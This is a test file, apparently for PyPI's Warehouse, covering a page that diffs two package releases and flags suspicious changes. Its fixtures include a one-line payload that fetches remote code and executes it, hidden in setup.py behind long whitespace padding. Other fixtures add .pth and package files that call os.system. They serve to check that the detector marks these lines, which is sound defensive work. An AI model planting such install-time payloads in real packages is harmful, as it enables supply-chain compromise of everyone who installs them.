"""Differences between two releases, and which of them are to be read first."""

import pytest

from tests.builders import sdists, wheels
from tests.factories.packaging import (
    make_file,
    make_project,
    make_provenance,
    make_release,
)
from tests.functional.pages.test_contents import ELF
from warehouse.packaging.models import LifecycleStatus

PATH = "/project/eggs/diff/1.0...1.1/"
PLANTED = "exec(__import__('urllib.request').request.urlopen('https://x.example').read())"
SETUP = "from setuptools import setup\n\n\nsetup(name='eggs')\n"
LIBRARY = "".join(f"def function_{n}():\n    return {n}\n\n\n" for n in range(400))


@pytest.fixture
def project(db):
    return make_project(db, "eggs")


@pytest.fixture
def publish(db, project, storage, tmp_path):
    """Publish a release with these files, by the ends of their names."""
    releases = {}

    def publish(version, filename, content):
        if version not in releases:
            releases[version] = make_release(db, project, version, ordering=len(releases))
        file = make_file(db, releases[version], filename)
        source = tmp_path / "source"
        source.write_bytes(content)
        storage.put(file.path, source)
        return file

    return publish


@pytest.fixture
def sdist(publish):
    def sdist(version, core=None, **members):
        extra = {
            name.replace("__py", ".py"): text.encode() for name, text in members.items()
        }
        made = sdists.sdist("eggs", version, core=core, extra=extra)
        return publish(version, f"eggs-{version}.tar.gz", made)

    return sdist


@pytest.fixture
def wheel(publish):
    def wheel(version, members, core=None):
        made = wheels.wheel("eggs", version, extra=members, core=core)
        return publish(version, f"eggs-{version}-py3-none-any.whl", made)

    return wheel


def test_a_planted_line_comes_first(client, sdist):
    many = {f"m{n}__py": f"import socket\nx = socket.socket({n})\n" for n in range(30)}
    sdist("1.0", setup__py=SETUP, eggs__py=LIBRARY)
    sdist(
        "1.1", setup__py=f"{SETUP}{' ' * 400};{PLANTED}\n", eggs__py=f"#\n{LIBRARY}", **many
    )
    first = client.get(PATH).html.select_one(".diff__marked")
    assert first.select_one("p a").text == "eggs-1.1/setup.py"
    assert "runs at installation" in first.text
    assert PLANTED in first.select_one(".lines__text").text
    badges = [each.text for each in first.select(".diff__reasons .badge")]
    assert {"uses the network", "runs text as code"} <= set(badges)
    link = first.select_one(".lines__number")["href"]
    assert link == "/project/eggs/1.1/files/eggs-1.1.tar.gz/text/eggs-1.1/setup.py#L5"


def test_lines_that_were_there_before_do_not_stand_out(client, sdist):
    sdist("1.0", setup__py=f"{PLANTED}\n")
    sdist("1.1", setup__py=f"{PLANTED}\nx = 1\n")
    page = client.get(PATH)
    shown = page.html.select(".diff__marked .lines__text")
    assert [each.text for each in shown] == ["x = 1"]
    assert not page.html.select(".diff__reasons")
    assert "runs at installation" in page.html.select_one(".diff__marked").text


def test_a_text_too_long_to_compare_hides_nothing(client, sdist):
    old = "".join(f"a = {n}\n" for n in range(9_000))
    new = "".join(f"b = {n}\n" for n in range(9_000))
    sdist("1.0", setup__py=old)
    sdist("1.1", setup__py=f"{new}{PLANTED}\n")
    page = client.get(PATH)
    assert PLANTED in page.html.select_one(".diff__marked .lines__text").text
    assert "Where they differ takes too long to find." in page


def test_changes_are_shown_by_lines(client, sdist):
    sdist("1.0", eggs__py=LIBRARY, old__py="")
    sdist(
        "1.1", eggs__py=LIBRARY.replace("return 7\n", "return '<7>'\n"), new__py="x = 1\n"
    )
    page = client.get(PATH)
    assert "Nothing in what is new stands out." in page
    rows = [each.text for each in page.html.select(".diff__row")]
    at = rows.index("30-    return 7")
    assert rows[at + 1] == "30+    return '<7>'"
    headings = [each.text for each in page.html.select("section h3")]
    assert headings == ["Changed 2", "Added 1", "Removed 1"]


def test_metadata_and_requirements_are_compared(client, wheel):
    def core(version, *required):
        return wheels.metadata(
            "eggs", version, Author=f"A{version}", Requires_Dist=required
        )

    wheel("1.0", {}, core("1.0", "old", "both>=1"))
    wheel("1.1", {}, core("1.1", "evil", "both>=2"))
    page = client.get(PATH)
    rows = [" ".join(each.get_text(" ").split()) for each in page.html.select("tbody tr")]
    assert rows == [
        "Dependencies old evil",
        "Dependency both>=1 both>=2",
        "author A1.0 A1.1",
    ]
    assert "evil new dependency" in page.html.select_one(".diff__first").text


def test_new_machine_code_and_code_at_every_start_stand_out(client, wheel):
    wheel("1.0", {})
    wheel("1.1", {"eggs/_x.so": ELF, "a.pth": b"import os; os.system('x')\n"})
    first = " ".join(client.get(PATH).html.select_one(".diff__first").text.split())
    assert "a.pth new runs whenever Python starts starts programs" in first
    assert "eggs/_x.so new machine code Linux, x86-64" in first


def test_lost_provenance_is_said(client, db, wheel):
    make_provenance(db, wheel("1.0", {}))
    wheel("1.1", {})
    page = client.get(PATH)
    assert "Nothing proves where some files of this release come from." in page


def test_a_wheel_is_compared_with_its_sdist(client, sdist, wheel):
    sdist("1.0", **{"eggs/__init____py": "x = 1\n"})
    wheel("1.0", {"eggs/__init__.py": b"x = 1\nimport os; os.system('x')\n"})
    page = client.get("/project/eggs/1.0/diff/")
    assert "os.system" in page.html.select_one(".diff__marked .lines__text").text


def test_an_sdist_is_compared_with_a_wheel_where_nothing_else_can_be(client, sdist, wheel):
    sdist("1.0", **{"eggs/__init____py": "answer = 42\n"})
    wheel("1.1", {"eggs/a.py": b"x = 1\n"})
    page = client.get(PATH)
    assert "eggs-1.0.tar.gz → eggs-1.1-py3-none-any.whl" in page
    assert "eggs/a.py" in page


def test_releases_are_chosen_in_a_form(client, sdist):
    sdist("1.0")
    sdist("1.1")
    form = client.get(PATH).forms[1]
    form["old"], form["new"] = "1.1", "1.0"
    assert form.submit().follow().request.path == "/project/eggs/diff/1.1...1.0/"
    client.get("/project/eggs/diff/?old=1.1&new=9", status=404)
    client.get("/project/eggs/diff/", status=404)
    answer = client.get("/project/Eggs/diff/1.0.0...1.1/", status=301)
    assert answer.location == f"http://localhost{PATH}"


def test_releases_without_files_cannot_be_compared(client, db, project):
    make_release(db, project, "1.0")
    make_release(db, project, "1.1")
    assert "There are no two files that can be compared." in client.get(PATH)


def test_quarantine_hides_differences(client, db, project, sdist):
    release = sdist("1.0").release
    sdist("1.1")
    for each in (release, project):
        each.lifecycle_status = LifecycleStatus.QUARANTINE_ENTER
        db.commit()
        client.get(PATH, status=404)
        client.get("/project/eggs/1.0/diff/", status=404)
        each.lifecycle_status = None
        db.commit()
    assert client.get(PATH).headers["X-Robots-Tag"] == "noindex, nofollow"


def test_comparing_takes_few_statements_however_many_files_there_are(
    client, sdist, publish, statements
):
    for version in ("1.0", "1.1"):
        sdist(version)
        for tag in ("win32", "win_amd64", "macosx_11_0_arm64"):
            name = f"eggs-{version}-cp313-cp313-{tag}.whl"
            publish(version, name, wheels.wheel("eggs", version))
    statements.clear()
    client.get(PATH)
    assert len(statements) <= 10, statements
